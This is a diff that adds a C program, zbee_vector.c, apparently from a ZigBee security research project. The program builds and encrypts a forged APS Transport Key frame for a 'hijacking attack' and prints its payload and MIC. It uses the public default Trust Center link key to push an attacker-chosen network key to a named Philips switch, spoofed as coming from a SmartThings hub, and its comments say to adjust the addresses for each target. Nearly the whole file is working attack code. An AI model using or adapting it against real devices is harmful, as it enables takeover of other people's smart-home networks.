@@ -0,0 +1,81 @@
+/*
+ * zbee_vector.c
+ * Encrypt the APS Transport Key of the hijacking attack, as the firmware
+ * builds it (attacks/frame.c), and print payload and MIC.
+ *
+ * Formerly the main() of zigbee_crypt.c.
+ */
+
+#include <stdio.h>
+#include <string.h>
+#include "zigbee_crypt.h"
+
+static void print_array(const uint8_t *a, unsigned len)
+{
+    unsigned i;
+
+    for (i = 0; i < len; i++)
+    {
+        printf(" %02x", a[i]);
+    }
+    printf("\n");
+}
+
+int main(int argc, char *argv[]) {
+    // Default Trust Center Link Key, "ZigBeeAlliance09"
+    static const uint8_t key[ZBEE_SEC_CONST_KEYSIZE] = {
+        0x5A, 0x69, 0x67, 0x42, 0x65, 0x65, 0x41, 0x6c,
+        0x6C, 0x69, 0x61, 0x6E, 0x63, 0x65, 0x30, 0x39};
+    // Key-transport key
+    uint8_t key_transport_key[ZBEE_SEC_CONST_KEYSIZE];
+    zbee_sec_ctx ctx;
+
+    // get nonce. Here we give a relatively large frame counter: 0xaa 0xaa 0xaa 0xaa
+    static const uint8_t nonce[13] = {0x14, 0x4a, 0x05, 0x02, 0x00, 0x97, 0x6d, 0x28, 0xaa, 0xaa, 0xaa, 0xaa, 0x35};
+    // get a = ApsHeader || AuxHeader. Here we give a relatively large counter: 0xff
+    static const uint8_t a[] =  {0x21, 0xff, 0x35, 0xaa, 0xaa, 0xaa, 0xaa, 0x14, 0x4a, 0x05, 0x02, 0x00, 0x97, 0x6d, 0x28};
+    // get unencrypted_payload: This is what we want to finally control. Here we change NWK key to 111111....11. Also we change sequence number to 0xff.
+    // 2nd line: Key Sequence  (WE MAY NEED TO ADJUST ACCORDING TO OUR TARGET)
+    // 3rd line: dest addr: (WE MAY NEED TO ADJUST ACCORDING TO OUR TARGET). Here we first use Philips Switch
+    // 4th line: src  addr, which is ST hub
+    static const uint8_t unencrypted_payload[] = {0x05, \
+                                           0x01, \
+                                           0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, \
+                                           0xff,\
+                                           0xcc, 0x7a, 0xf4, 0x08, 0x01, 0x88, 0x17, 0x00, \
+                                           0x14, 0x4a, 0x05, 0x02, 0x00, 0x97, 0x6d, 0x28};
+    // M
+    unsigned M = 4;
+
+    // Output 1: encrypted_payload
+    uint8_t encrypted_payload[sizeof(unencrypted_payload)];
+    // Output 2: computed_MIC
+    uint8_t computed_MIC[ZBEE_SEC_CONST_MICSIZE];
+
+    if (!zbee_sec_ctx_init(&ctx, NULL)) {
+        fprintf(stderr, "cannot open AES-128 cipher\n");
+        return 1;
+    }
+    // get key-transport key
+    zbee_sec_key_hash(&ctx, key, 0x00, key_transport_key);
+    if (!zbee_sec_ctx_setkey(&ctx, key_transport_key) ||
+        !zbee_sec_ccm_encrypt(&ctx, nonce, a, sizeof(a),
+        unencrypted_payload, encrypted_payload, sizeof(unencrypted_payload),
+        computed_MIC, M)) {
+        fprintf(stderr, "encryption failed\n");
+        return 1;
+    }
+    printf("Encrypted Payload: ");
+    print_array(encrypted_payload, sizeof(encrypted_payload));
+    printf("MIC: ");
+    print_array(computed_MIC, M);
+
+    // and back
+    if (!zbee_sec_ccm_verify(&ctx, nonce, a, sizeof(a),
+        encrypted_payload, sizeof(encrypted_payload), computed_MIC, M)) {
+        fprintf(stderr, "MIC does not verify\n");
+        return 1;
+    }
+    zbee_sec_ctx_free(&ctx);
+    return 0;
+}